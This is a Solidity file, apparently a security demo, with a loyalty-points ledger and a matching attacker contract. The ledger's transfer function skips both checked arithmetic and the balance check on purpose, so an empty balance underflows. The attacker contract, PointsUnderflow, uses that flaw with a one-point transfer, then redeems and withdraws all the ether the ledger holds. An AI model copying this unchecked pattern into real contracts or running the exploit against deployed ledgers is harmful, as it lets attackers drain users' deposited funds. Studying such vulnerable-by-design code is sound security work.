// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @notice Loyalty points bought with ether (1,000 points per wei) and redeemable for it.
///         transfer skips the checked arithmetic "to save gas" and never checks the balance.
contract PointsLedger {
    uint256 public constant POINTS_PER_WEI = 1_000;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 points);

    error InsufficientPoints(uint256 held, uint256 wanted);
    error PaymentFailed();

    function buy() external payable {
        balanceOf[msg.sender] += msg.value * POINTS_PER_WEI;
        emit Transfer(address(0), msg.sender, msg.value * POINTS_PER_WEI);
    }

    function transfer(address to, uint256 points) external {
        unchecked {
            balanceOf[msg.sender] -= points;
            balanceOf[to] += points;
        }
        emit Transfer(msg.sender, to, points);
    }

    function redeem(uint256 points) external {
        uint256 held = balanceOf[msg.sender];
        if (held < points) revert InsufficientPoints(held, points);
        balanceOf[msg.sender] = held - points;
        emit Transfer(msg.sender, address(0), points);
        (bool ok,) = msg.sender.call{value: points / POINTS_PER_WEI}("");
        if (!ok) revert PaymentFailed();
    }
}

/// @notice Attacker: underflows its empty balance with a 1-point transfer, redeems everything.
contract PointsUnderflow {
    function attack(PointsLedger ledger) external {
        ledger.transfer(msg.sender, 1);
        ledger.redeem(address(ledger).balance * ledger.POINTS_PER_WEI());
        (bool ok,) = msg.sender.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}
